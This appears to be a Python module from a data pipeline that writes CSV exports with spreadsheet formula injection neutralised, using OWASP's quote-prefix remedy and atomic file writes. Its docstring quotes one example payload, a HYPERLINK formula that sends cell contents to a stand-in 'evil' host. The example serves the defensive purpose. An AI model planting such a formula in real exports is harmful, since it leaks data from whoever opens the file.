"""CSV exports that spreadsheets cannot execute: every cell that could start a formula is escaped.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@`
(and some also after a leading tab or carriage return), so a product title like
`=HYPERLINK("http://evil/?"&A1)` written as-is would run when an operator opens the file.
OWASP's remedy: prefix such a cell with a single quote, which the spreadsheet shows as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from pathlib import Path

from pipeline.fsops import replacing

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def storable(text: str) -> str:
    """`text` with any unpaired UTF-16 surrogate (JSON's "\\ud83d" alone) written as an escape, so
    that it can be stored as UTF-8 (Arrow, Parquet, a file) and shown."""
    return text.encode("utf-8", "backslashreplace").decode("utf-8")


def escape_cell(value: object) -> str:
    """The cell's text, with a leading `'` when it would start a formula; None is empty."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def to_csv(rows: Iterable[dict], columns: Sequence[str]) -> str:
    """Rows as CSV text: a header, every cell escaped and quoted (quoted newlines survive)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([escape_cell(c) for c in columns])
    for row in rows:
        writer.writerow([escape_cell(row.get(c)) for c in columns])
    return buffer.getvalue()


def write_csv(path: Path, rows: Iterable[dict], columns: Sequence[str]) -> Path:
    """Write rows as UTF-8 CSV with a BOM (Excel then reads non-ASCII text right); temporary
    name first, then a rename, so a reader never opens half a file."""
    path = Path(path)
    with replacing(path) as tmp:
        tmp.write_bytes(b"\xef\xbb\xbf" + to_csv(rows, columns).encode("utf-8"))
    return path
